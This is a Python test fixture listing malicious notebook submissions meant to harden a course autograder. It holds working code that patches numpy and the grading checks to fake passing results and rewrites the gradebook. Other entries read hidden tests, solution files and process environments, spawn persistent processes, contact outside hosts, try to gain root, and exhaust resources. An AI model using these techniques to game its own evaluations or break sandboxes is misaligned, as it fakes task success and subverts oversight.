"""The attack zoo: submissions of assignment 01 that try to get points they did not earn, to
tamper with the grader or the gradebook, to read what they must not, or to outlive their run.

Every attacker answers with wrong code (each answer cell one of tests/mutants_01.py's mistakes,
which fail their tests honestly: a score of 0), or with no code at all, and adds its attack. So
any point an attacker gets is unearned. `expect` is "zero" (graded, 0 points) or a phrase of the
problem the grader must report instead. tests/test_attacks.py grades them together with honest
students, who must get exactly their marks.

Placeholders, replaced as text: {root} is the course's folder, {repo} the repository that holds
the installed bp2yolo, {port} a TCP port on 127.0.0.1 that the test listens on, {planted} a
path in /tmp.
"""

from __future__ import annotations

from typing import NamedTuple


class Attack(NamedTuple):
    name: str
    kind: str  # points | gradebook | files | leaks | escape | limits
    code: str  # a cell added right after the setup cell ("" for none)
    expect: str = "zero"  # "zero", or words of the problem the grader reports
    answers: str = "wrong"  # "wrong": the mutants; "none": answer cells emptied; "hardcoded"
    files: dict[str, str] = {}  # noqa: RUF012 - extra files beside the notebook
    ci: bool = False  # in the CI-sized subset (make test); all run with make attack-zoo
    edit: str = ""  # a change to the notebook itself, by name (see test_attacks.tamper)


NOOP = "lambda *args, **kwargs: None"


def run_answers_from(*paths: str) -> str:
    """Code that runs the answer cells of the first of these notebooks it can read."""
    return f"""\
import json, pathlib
for path in {paths!r}:
    try:
        cells = json.loads(pathlib.Path(path).read_text())["cells"]
    except OSError as error:
        print("cannot read it:", error)
        continue
    for cell in cells:
        if cell["metadata"].get("nbgrader", {{}}).get("solution"):
            exec("".join(cell["source"]), globals())
"""


def write_attempt(target: str, text: str, mode: str = "w", setup: str = "") -> str:
    """Code that tries to write `text` into the file that the expression `target` names."""
    return f"""\
{setup}try:
    with open({target}, {mode!r}) as file:
        file.write({text!r})
    print("written")
except OSError as error:
    print("cannot:", error)
"""


ATTACKS = [
    # ------------------------------------------------------------ unearned points
    Attack("patch-np-all", "points", """\
import numpy as np
np.all = np.any = lambda *args, **kwargs: True
np.allclose = np.array_equal = lambda *args, **kwargs: True
np.isclose = lambda a, *args, **kwargs: np.ones(np.shape(a), bool)
""", ci=True),
    Attack("patch-checks-functions", "points", f"""\
import bp2yolo.checks, bp2yolo.checks.ch01, bp2yolo.checks.core, bp2yolo.checks.report
for module in (bp2yolo.checks, bp2yolo.checks.ch01, bp2yolo.checks.core, bp2yolo.checks.report):
    for name in dir(module):
        if name.startswith(("check", "assert", "require", "expect")):
            setattr(module, name, {NOOP})
""", ci=True),
    Attack("replace-checks-in-sys-modules", "points", f"""\
import sys, types
fake = types.ModuleType("bp2yolo.checks")
fake.__getattr__ = lambda name: {NOOP}
for name in [n for n in sys.modules if n.startswith("bp2yolo.checks")]:
    sys.modules[name] = fake
""", ci=True),
    Attack("import-hook", "points", f"""\
import builtins, types
real_import = builtins.__import__
def fake_import(name, *args, **kwargs):
    if name.startswith("bp2yolo"):
        module = types.ModuleType(name)
        module.__getattr__ = lambda attribute: {NOOP}
        return module
    return real_import(name, *args, **kwargs)
builtins.__import__ = fake_import
""", ci=True),
    Attack("ipython-input-transformer", "points", """\
get_ipython().input_transformers_post.append(
    lambda lines: ["pass\\n"] if any("check" in line for line in lines) else lines)
""", ci=True),
    Attack("ipython-custom-exception-handler", "points", """\
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
""", ci=True),
    Attack("sys-excepthook", "points", """\
import sys
sys.excepthook = lambda *args: None
"""),
    Attack("no-op-package-beside-the-notebook", "points", """\
import os, sys
for folder in ("/submission", os.getcwd(), "."):
    sys.path.insert(0, folder)
for name in [n for n in sys.modules if n.startswith("bp2yolo")]:
    del sys.modules[name]
import bp2yolo.checks.ch01
""", files={
        "bp2yolo/__init__.py": "",
        "bp2yolo/checks/__init__.py": f"def __getattr__(name):\n    return {NOOP}\n",
        "bp2yolo/checks/ch01.py": f"def __getattr__(name):\n    return {NOOP}\n",
    }, ci=True),
    Attack("run-the-instructors-solution", "points", run_answers_from(
        "{root}/solutions/01_chain_rule/01_exercises.ipynb",
        "{repo}/solutions/01_chain_rule/01_exercises.ipynb"), answers="none", ci=True),
    Attack("copy-another-students-answers", "points", run_answers_from(
        "{root}/grading/submitted/honest-full/01_chain_rule/01_exercises.ipynb",
        "/submission/../../honest-full/01_chain_rule/01_exercises.ipynb"), answers="none",
        ci=True),
    Attack("hard-coded-visible-answers", "points", "", answers="hardcoded", ci=True),
    Attack("answers-precomputed-from-the-public-hidden-tests", "points", "",
           answers="precomputed", ci=True),
    Attack("objects-that-equal-anything", "points", """\
import numpy as np
class Liar(float):
    __eq__ = __le__ = __ge__ = lambda self, other: True
    __ne__ = __lt__ = __gt__ = lambda self, other: False
    __bool__ = lambda self: True
    def __array__(self, *args, **kwargs):
        return np.zeros(())
    def __len__(self):
        return 4
    def __iter__(self):
        return iter([Liar(), Liar(), Liar(), Liar()])
    def __getitem__(self, key):
        return Liar()
liar = Liar()
backward_difference = five_point_difference = log_cosh_model = gradient_descent_step = \\
    train = chain_gradients = lambda *args, **kwargs: liar
""", answers="none", ci=True),
    Attack("nan-everywhere", "points", """\
import numpy as np
def nan_like(x):
    return np.full(np.shape(x), np.nan)
backward_difference = five_point_difference = lambda f, x, h: nan_like(x)
log_cosh_model = lambda x, w, b, y_gt: tuple(nan_like(x) for _ in range(4))
chain_gradients = lambda x, w1, b1, w2, b2, y_gt: tuple(nan_like(x) for _ in range(4))
gradient_descent_step = lambda params, grads, lr: {k: nan_like(v) for k, v in params.items()}
train = lambda x, y, w, b, lr, steps: (np.nan, np.nan, np.full(steps + 1, np.nan))
""", answers="none"),
    Attack("hand-back-the-graders-function", "points", """\
def backward_difference(f, x, h):
    for probe in ("x", None, [x], {"x": x}):
        try:
            f(probe)
        except Exception as error:
            print(type(error).__name__, error)
    return f
five_point_difference = backward_difference
""", answers="none"),
    Attack("forge-the-runners-replies", "points", """\
import gc
runner = next(o for o in gc.get_objects() if type(o).__name__ == "Runner")
real_call = runner.op_call
def forged_call(message):
    reply = real_call(message)
    reply["v"][0] = runner.out((0.0, 0.0, 0.0, 0.0))
    return reply
runner.op_call = forged_call
runner.op_isinstance = lambda message: True
""", ci=True),
    Attack("garbage-into-the-grader-channel", "escape", """\
import os
for fd in os.listdir("/proc/self/fd"):
    if int(fd) > 2:
        try:
            os.write(int(fd), b'{"re": 1, "value": 14}\\n' * 100 + b"not json\\n")
        except OSError:
            pass
""", expect="channel", ci=True),
    # ------------------------------------------------------------ the gradebook
    Attack("write-the-gradebook", "gradebook", """\
import sqlite3
try:
    db = sqlite3.connect("file:{root}/grading/gradebook.db?mode=rw", uri=True)
    db.execute("update grade set auto_score = 100, manual_score = 100")
    db.commit()
    print("wrote the gradebook")
except Exception as error:
    print("cannot:", error)
""", ci=True),
    Attack("read-hidden-tests-from-the-gradebook", "leaks", """\
import sqlite3
try:
    db = sqlite3.connect("file:{root}/grading/gradebook.db?mode=ro", uri=True)
    for (source,) in db.execute("select source from source_cell"):
        print(source)
except Exception as error:
    print("cannot:", error)
"""),
    # ------------------------------------------------------------ other files
    Attack("overwrite-another-submission", "files", write_attempt(
        '"{root}/grading/submitted/honest-full/01_chain_rule/01_exercises.ipynb"',
        '{"cells": []}'), ci=True),
    Attack("edit-the-checks-package", "files", write_attempt(
        "bp2yolo.checks.ch01.__file__", "\ncheck_log_cosh_model = lambda f: None\n", "a",
        "import bp2yolo.checks.ch01\n"), ci=True),
    Attack("edit-the-nbgrader-config", "files", write_attempt(
        '"{root}/grading/nbgrader_config.py"', "\nc.GenerateFeedback.preprocessors = []\n",
        "a")),
    Attack("drop-a-file-into-solutions", "files", """\
for folder in ("{root}/solutions/01_chain_rule", "{repo}/solutions/01_chain_rule"):
    try:
        with open(folder + "/planted.txt", "w") as file:
            file.write("planted")
    except OSError as error:
        print("cannot:", error)
""", ci=True),
    Attack("plant-a-file-for-the-next-student", "files", """\
with open("{planted}", "w") as file:
    file.write("planted")
"""),
    Attack("look-for-the-planted-file", "files", """\
import os
raise RuntimeError("planted file " + ("FOUND" if os.path.exists("{planted}") else "absent"))
"""),
    # ------------------------------------------------------------ leaks
    Attack("hidden-tests-through-frames-and-errors", "leaks", """\
import inspect, sys
def backward_difference(f, x, h):
    for look in (lambda: inspect.getsource(f), lambda: f.__closure__, lambda: f.__code__,
                 lambda: sys._getframe(1).f_code, lambda: f.__globals__):
        try:
            print(look())
        except Exception as error:
            print(type(error).__name__, error)
    raise AssertionError("leak: " + repr(f) + " " + repr(vars(type(f))))
five_point_difference = backward_difference
""", answers="none", ci=True),
    Attack("read-the-graders-files", "leaks", """\
import glob, os
for pattern in ("{root}/grading/*.py", "{root}/solutions/*/*", "{repo}/grading/*.py",
                "/root/*", "/home/*", "/proc/1/environ", "/proc/*/cmdline"):
    for path in glob.glob(pattern):
        try:
            print(path, open(path, errors="replace").read()[:2000])
        except OSError as error:
            print(path, error)
"""),
    # ------------------------------------------------------------ escape and limits
    Attack("a-background-process-that-outlives-the-kernel", "escape", """\
import os, subprocess, sys
code = ("import time\\nwhile True:\\n    time.sleep(0.5)\\n"
        "    try:\\n        open('{root}/grading/grades.csv', 'w').write('pwned')\\n"
        "    except OSError:\\n        pass\\n")
subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        exec(code)
    os._exit(0)
""", ci=True),
    Attack("the-network", "escape", """\
import socket
for host, port in (("127.0.0.1", {port}), ("1.1.1.1", 80)):
    try:
        socket.create_connection((host, port), timeout=2).sendall(b"pwned")
        print("connected to", host)
    except OSError as error:
        print("no network:", error)
""", ci=True),
    Attack("become-root", "escape", """\
import os
for attempt in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot("/")):
    try:
        attempt()
        print("it worked")
    except OSError as error:
        print("cannot:", error)
print("uid", os.getuid())
"""),
    Attack("exit-the-kernel", "escape", """\
def log_cosh_model(x, w, b, y_gt):
    import os
    os._exit(0)
""", expect="dead kernel", answers="none"),
    Attack("kill-the-sandbox-init", "escape", """\
import os, signal
os.kill(1, signal.SIGKILL)  # a PID namespace's init ignores it: nothing happens
"""),
    Attack("fork-bomb", "limits", """\
import os, time
for _ in range(100000):
    try:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
    except OSError as error:
        print("stopped:", error)
        break
"""),
    Attack("memory-hog", "limits", """\
hog = bytearray(16 << 30)
"""),
    Attack("fill-the-disk", "limits", """\
try:
    with open("/tmp/fill", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))
except OSError as error:
    print("stopped:", error)
"""),
    Attack("endless-output", "limits", """\
print("x" * (50 << 20))
"""),
    Attack("a-function-that-never-returns", "limits", """\
def log_cosh_model(x, w, b, y_gt):
    while True:
        pass
""", expect="timeout", answers="none"),
    # ------------------------------------------------------------ the notebook itself
    Attack("points-in-the-metadata", "points", "", edit="points", ci=True),
    Attack("test-cells-emptied", "points", "", edit="tests", ci=True),
    Attack("submit-the-instructors-notebook", "points", "", edit="source",
           expect="copy of the instructor's source notebook", ci=True),
]
